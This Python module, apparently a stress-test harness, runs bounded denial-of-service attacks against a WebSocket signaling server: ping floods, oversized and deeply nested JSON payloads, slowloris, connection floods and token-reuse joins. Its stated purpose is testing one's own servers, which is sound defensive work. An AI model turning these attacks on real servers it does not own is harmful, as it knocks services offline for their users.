"""Attacks on the signaling server, over the wire, each bounded in count and time.

Every function drives one attack class against a server URL and returns
what the attacker saw as a JSON-able dict (what it sent, what the server
answered, how the server closed it).  They import nothing from the server
packages, so a test, a bench script or an attack suite can run them in
process or in a subprocess of their own:

    python -m loadtest.attacks ping-flood --url http://127.0.0.1:8080 --sockets 32 --seconds 8

Only for servers you run yourself (tests and benches use loopback).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
import time
from collections import Counter
from collections.abc import Callable, Coroutine
from typing import Any

import aiohttp

PING = json.dumps({"type": "ping"})


def ws_url(url: str) -> str:
    return url.rstrip("/").replace("http", "ws", 1) + "/ws"


def _session(local_addr: str | None) -> aiohttp.ClientSession:
    connector = aiohttp.TCPConnector(local_addr=(local_addr, 0), limit=0) if local_addr \
        else aiohttp.TCPConnector(limit=0)
    return aiohttp.ClientSession(connector=connector)


async def _flood_one(http: aiohttp.ClientSession, url: str, deadline: float, first: str | None,
                     stats: Counter[str], reconnect: bool) -> None:
    """One attacker socket: connect, (optionally send ``first``), ping as fast as possible, reconnect."""
    while time.monotonic() < deadline:
        try:
            ws = await http.ws_connect(ws_url(url), heartbeat=None)
        except aiohttp.WSServerHandshakeError as exc:
            stats[f"handshake_{exc.status}"] += 1
            await asyncio.sleep(0.05)
            continue
        except (aiohttp.ClientError, OSError):
            stats["connect_failed"] += 1
            await asyncio.sleep(0.05)
            continue
        stats["connections"] += 1

        async def read() -> None:
            async for msg in ws:
                if msg.type == aiohttp.WSMsgType.TEXT:
                    stats["replies"] += 1
                    code = json.loads(msg.data).get("code")
                    if code:
                        stats[f"error_{code}"] += 1
            if ws.close_code is not None:
                stats[f"closed_{ws.close_code}"] += 1

        reader = asyncio.get_running_loop().create_task(read())
        try:
            if first is not None:
                await ws.send_str(first)
            n = 0
            while time.monotonic() < deadline and not ws.closed:
                await ws.send_str(PING)
                stats["sent"] += 1
                n += 1
                if n % 50 == 0:
                    await asyncio.sleep(0)  # let this process's other sockets send too
        except (aiohttp.ClientError, ConnectionError, RuntimeError):
            pass
        finally:
            if not ws.closed:
                await ws.close()
            try:
                await asyncio.wait_for(reader, 2.0)
            except (asyncio.TimeoutError, aiohttp.ClientError, ConnectionError):
                reader.cancel()
        if not reconnect:
            return


async def ping_flood(url: str, *, sockets: int = 32, seconds: float = 5.0, local_addr: str | None = None,
                     join_room: str | None = None, reconnect: bool = True) -> dict[str, Any]:
    """``sockets`` WebSockets sending ``ping`` as fast as they can for ``seconds``, reconnecting when closed.

    Without ``join_room`` they never join (the pre-auth flood); with it each
    joins that room first (a flood from participants).
    """
    first = json.dumps({"type": "join", "room": join_room, "name": "flood"}) if join_room else None
    stats: Counter[str] = Counter()
    deadline = time.monotonic() + seconds
    async with _session(local_addr) as http:
        await asyncio.gather(*(_flood_one(http, url, deadline, first, stats, reconnect) for _ in range(sockets)))
    return {"attack": "ping-flood", "sockets": sockets, "seconds": seconds, **dict(sorted(stats.items()))}


async def stage_join(url: str, *, items: int = 8000, room: str = "attack-stages", as_list: bool = True,
                     local_addr: str | None = None, token: str | None = None,
                     stages: Any = None) -> dict[str, Any]:
    """A ``join`` whose ``stages`` lists ``items`` entries (or is ``stages``): how long until the server
    answers, and what.  ``token``: join as a participant with a valid token (production servers)."""
    if stages is None:
        stages = ["vad"] * items if as_list else ",".join(["vad"] * items)
    msg: dict[str, Any] = {"type": "join", "room": room, "name": "stages", "stages": stages}
    if token is not None:
        msg["token"] = token
    raw = json.dumps(msg)
    async with _session(local_addr) as http:
        ws = await http.ws_connect(ws_url(url))
        t0 = time.monotonic()
        await ws.send_str(raw)
        answer = await asyncio.wait_for(ws.receive(), 30.0)
        took = time.monotonic() - t0
        reply = json.loads(answer.data) if answer.type == aiohttp.WSMsgType.TEXT else {"type": str(answer.type)}
        await ws.close()
    return {"attack": "stage-join", "items": items, "bytes": len(raw), "reply_s": round(took, 4),
            "reply": reply.get("code", reply.get("type"))}


async def nested_json(url: str, *, depth: int = 50_000, path: str = "/api/rooms/attack/stages",
                      token: str | None = None) -> dict[str, Any]:
    """An HTTP PUT whose JSON body nests ``depth`` arrays (``token``: as an admin, past the auth check)."""
    body = b"[" * depth + b"]" * depth
    headers = {"Content-Type": "application/json"}
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    async with aiohttp.ClientSession() as http:
        async with http.put(url.rstrip("/") + path, data=body, headers=headers) as r:
            try:
                reply = await r.json(content_type=None)
            except (ValueError, aiohttp.ContentTypeError):
                reply = {"raw": (await r.text())[:200]}
    return {"attack": "nested-json", "depth": depth, "status": r.status, "error": reply.get("error")}


async def slowloris(url: str, *, connections: int = 50, seconds: float = 10.0,
                    local_addr: str | None = None) -> dict[str, Any]:
    """Connections that send a request line and then one header line a second, never finishing.

    Returns how many the server closed within ``seconds`` and after how long.
    """
    host, port = url.rstrip("/").split("://", 1)[1].split(":")
    closed_after: list[float] = []
    refused = 0

    async def one() -> None:
        nonlocal refused
        t0 = time.monotonic()
        try:
            reader, writer = await asyncio.open_connection(host, int(port), local_addr=(local_addr, 0)
                                                           if local_addr else None)
        except OSError:
            refused += 1
            return
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
            while time.monotonic() - t0 < seconds:
                writer.write(b"X-Slow: 1\r\n")
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(4096), 1.0)
                except asyncio.TimeoutError:
                    continue
                if not data or b"\r\n\r\n" in data:  # closed, or answered (e.g. 503 server-busy)
                    closed_after.append(time.monotonic() - t0)
                    return
        except (ConnectionError, OSError):
            closed_after.append(time.monotonic() - t0)
        finally:
            writer.close()

    await asyncio.gather(*(one() for _ in range(connections)))
    return {"attack": "slowloris", "connections": connections, "seconds": seconds, "refused": refused,
            "closed_by_server": len(closed_after), "still_open": connections - refused - len(closed_after),
            "closed_after_s_max": round(max(closed_after), 2) if closed_after else None}


async def connection_flood(url: str, *, addresses: list[str], per_address: int,
                           hold_s: float = 1.0) -> dict[str, Any]:
    """Open ``per_address`` WebSockets from each of ``addresses`` at once, hold them, count the refusals."""
    statuses: Counter[str] = Counter()
    sessions = [_session(a) for a in addresses]
    held: list[aiohttp.ClientWebSocketResponse] = []

    async def one(http: aiohttp.ClientSession) -> None:
        try:
            held.append(await http.ws_connect(ws_url(url), heartbeat=None))
            statuses["accepted"] += 1
        except aiohttp.WSServerHandshakeError as exc:
            statuses[f"refused_{exc.status}"] += 1
        except (aiohttp.ClientError, OSError):
            statuses["failed"] += 1

    try:
        await asyncio.gather(*(one(s) for s in sessions for _ in range(per_address)))
        await asyncio.sleep(hold_s)
    finally:
        for ws in held:
            await ws.close()
        for s in sessions:
            await s.close()
    return {"attack": "connection-flood", "addresses": len(addresses), "per_address": per_address,
            **dict(sorted(statuses.items()))}


async def same_identity_joins(url: str, *, token: str, room: str, joins: int = 8,
                              local_addr: str | None = None) -> dict[str, Any]:
    """``joins`` sockets joining ``room`` with one token, one after the other: what each was told."""
    events: Counter[str] = Counter()
    async with _session(local_addr) as http:
        sockets = []
        for _ in range(joins):
            ws = await http.ws_connect(ws_url(url))
            await ws.send_str(json.dumps({"type": "join", "room": room, "token": token}))
            msg = json.loads((await asyncio.wait_for(ws.receive(), 10.0)).data)
            events[msg.get("code", msg["type"])] += 1
            sockets.append(ws)
        await asyncio.sleep(0.5)
        for ws in sockets:  # what the earlier ones got meanwhile
            while True:
                try:
                    msg = await asyncio.wait_for(ws.receive(), 0.2)
                except asyncio.TimeoutError:
                    break
                if msg.type != aiohttp.WSMsgType.TEXT:
                    break
                data = json.loads(msg.data)
                if data["type"] == "bye":
                    events[f"bye_{data.get('code', 'other')}"] += 1
            await ws.close()
    return {"attack": "same-identity", "joins": joins, **dict(sorted(events.items()))}


async def join_without_offer(url: str, *, room: str = "attack-idle", wait_s: float = 30.0,
                             token: str | None = None) -> dict[str, Any]:
    """Join and never offer: what the server says, and after how long."""
    async with aiohttp.ClientSession() as http:
        ws = await http.ws_connect(ws_url(url))
        join: dict[str, Any] = {"type": "join", "room": room}
        if token is not None:
            join["token"] = token
        await ws.send_str(json.dumps(join))
        t0 = time.monotonic()
        seen: list[str] = []
        while time.monotonic() - t0 < wait_s:
            try:
                msg = await asyncio.wait_for(ws.receive(), wait_s)
            except asyncio.TimeoutError:
                break
            if msg.type != aiohttp.WSMsgType.TEXT:
                break
            data = json.loads(msg.data)
            seen.append(data.get("code", data["type"]))
            if data.get("code") == "offer-timeout":
                break
        took = time.monotonic() - t0
        await ws.close()
    return {"attack": "join-without-offer", "seen": seen, "after_s": round(took, 2)}


ATTACKS: dict[str, Callable[..., Coroutine[Any, Any, dict[str, Any]]]] = {
    "ping-flood": ping_flood, "stage-join": stage_join, "nested-json": nested_json, "slowloris": slowloris,
    "connection-flood": connection_flood, "same-identity": same_identity_joins,
}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--url", required=True)
    parser.add_argument("--sockets", type=int, default=32, help="ping-flood")
    parser.add_argument("--seconds", type=float, default=5.0, help="ping-flood, slowloris")
    parser.add_argument("--items", type=int, default=8000, help="stage-join")
    parser.add_argument("--connections", type=int, default=50, help="slowloris")
    parser.add_argument("--local-addr", help="source address (e.g. 127.0.0.2)")
    parser.add_argument("--kwargs", default="{}", help="JSON object of further keyword arguments of the attack")
    args = parser.parse_args(argv)
    options: dict[str, Any] = {
        "ping-flood": {"sockets": args.sockets, "seconds": args.seconds, "local_addr": args.local_addr},
        "stage-join": {"items": args.items, "local_addr": args.local_addr},
        "slowloris": {"connections": args.connections, "seconds": args.seconds, "local_addr": args.local_addr},
    }.get(args.attack, {})
    options.update(json.loads(args.kwargs))
    print(json.dumps(asyncio.run(ATTACKS[args.attack](args.url, **options))))
    return 0


if __name__ == "__main__":
    sys.exit(main())
